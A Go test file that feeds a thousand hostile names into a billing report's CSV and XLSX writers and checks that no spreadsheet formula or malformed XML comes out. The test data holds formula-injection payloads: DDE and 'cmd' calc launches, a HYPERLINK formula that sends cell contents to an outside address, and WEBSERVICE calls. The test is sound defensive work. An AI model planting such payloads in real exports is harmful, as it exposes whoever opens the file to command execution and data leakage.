package statement_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"errors"
	"io"
	"math/rand/v2"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/shopspring/decimal"

	"hostmeter/aggregator/statement"
)

// hostileNames returns names that mean harm, or that break writers: formulas in all spellings, markup,
// quotes, control characters, emoji, right to left, very long, broken UTF-8.
func hostileNames(n int) []string {
	random := rand.New(rand.NewPCG(7, 1)) //nolint:gosec // a fixed seed: the names are the same each time
	first := []string{"=", "+", "-", "@", "\t", "\r", "\n", "＝", "＠", "\t=", "\r\n=", "'=", "\"=", " ", "\u202e", "\ufeff=", "</t></is></c><c><f>", "]]>", "&#61;", "_x003D_", "\x00", "\xff", "<f>", ""}
	rest := []string{"1+1", "cmd|'/C calc'!A0", `HYPERLINK("http://192.0.2.1/?"&A1,"x")`, "SUM(A:A)", "DDE(\"cmd\";\"/C calc\";\"\")", "WEBSERVICE(\"x\")", "Ada Ltd", "😀👩‍👩‍👧", "שלום",
		"مرحبا", "日本語", "\",\"=1", ";=1", "\n=1", "\r=1", "\t=1", "<f>1+1</f>", "&amp;", "]]>", "_x0041_", "\x08\x1b", "%0A", strings.Repeat("=", 300), strings.Repeat("A", 4000), "\xc3\x28", ""}
	names := make([]string, 0, n)
	for len(names) < n {
		name := first[len(names)%len(first)] + rest[random.IntN(len(rest))]
		if random.IntN(3) == 0 {
			name += first[random.IntN(len(first))] + rest[random.IntN(len(rest)-3)]
		}
		names = append(names, name)
	}
	return names
}

// hostile is a report in which every text is a hostile name.
func hostile(t testing.TB, names []string) statement.Report {
	report := sample(t)
	report.Provider = names[len(names)-1]
	row := report.Rows[0]
	report.Rows = nil
	for i, name := range names {
		row.Customer, row.Service, row.Plan, row.Statement = name, names[(i+1)%len(names)], names[(i+2)%len(names)], names[(i+3)%len(names)]
		row.PeriodFrom = row.PeriodFrom.AddDate(0, 0, 1) // each with evidence of its own
		row.PeriodTo = row.PeriodFrom.AddDate(0, 0, 1)
		report.Rows = append(report.Rows, row)
		report.Unowned = append(report.Unowned, statement.Unowned{Meter: name, Class: name})
		report.Problems = append(report.Problems, statement.Problem{Service: name, Text: name})
	}
	return report
}

func hostileEvidence(t testing.TB, report statement.Report) statement.Evidences {
	return func(yield func(statement.Evidence, error) bool) {
		for e := range evidenceOf(t, report) {
			name := e.Rows[0].Customer
			e.CustomerName, e.Owned[0].Meter, e.Owned[0].Key, e.Exporters[0].Exporter, e.Days[0].Class = name, name, name, name, name
			e.Exporters[0].Lost[0].Unit, e.Exporters[0].Lost[0].Reason, e.Slots.Gaps[0].Exporter = name, name, name
			if !yield(e, nil) {
				return
			}
		}
	}
}

func TestNoFormulaFromAThousandHostileNames(t *testing.T) {
	names := hostileNames(1000)
	report := hostile(t, names)

	var text bytes.Buffer
	if err := statement.WriteCSV(&text, report); err != nil {
		t.Fatal(err)
	}
	records, err := csv.NewReader(&text).ReadAll()
	if err != nil || len(records) != len(names)+1 {
		t.Fatalf("%d records, %v", len(records), err)
	}
	for i, record := range records {
		if len(record) != len(records[0]) || len(record) < 24 {
			t.Fatalf("record %d has %d fields", i, len(record))
		}
		for _, field := range record {
			first, _ := utf8.DecodeRuneInString(field)
			if _, err := decimal.NewFromString(field); err != nil && field != "" && strings.ContainsRune("=+-@\t\r\n＝＋－＠", first) {
				t.Errorf("record %d has the formula %.60q", i, field)
			}
		}
	}

	var book bytes.Buffer
	if err := statement.WriteXLSX(&book, report, hostileEvidence(t, report)); err != nil {
		t.Fatal(err)
	}
	texts, formulas := 0, map[string]int{}
	eachElement(t, book.Bytes(), func(part string, element xml.StartElement) {
		switch element.Name.Local {
		case "t":
			texts++
		case "f":
			formulas[part]++
		}
	})
	if texts < 10*len(names) {
		t.Errorf("only %d texts were looked at", texts)
	}
	if len(formulas) != 1 || formulas["xl/worksheets/sheet1.xml"] != 6 { // the summary's own: 4 of one currency, 2 of usage
		t.Errorf("formulas: %v", formulas)
	}
	f := open(t, book.Bytes())
	rows, err := f.GetRows("Report")
	if err != nil || len(rows) != len(names)+1 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
}

// eachElement reads the parts of a package by another's XML parser, which refuses what is not well-formed.
func eachElement(t *testing.T, file []byte, f func(part string, element xml.StartElement)) {
	t.Helper()
	archive, err := zip.NewReader(bytes.NewReader(file), int64(len(file)))
	if err != nil {
		t.Fatal(err)
	}
	for _, part := range archive.File {
		in, err := part.Open()
		if err != nil {
			t.Fatal(err)
		}
		decoder := xml.NewDecoder(in)
		for {
			token, err := decoder.Token()
			if errors.Is(err, io.EOF) {
				break
			}
			if err != nil {
				t.Fatalf("%s: %v", part.Name, err)
			}
			if element, ok := token.(xml.StartElement); ok {
				f(part.Name, element)
			}
		}
		in.Close()
	}
}
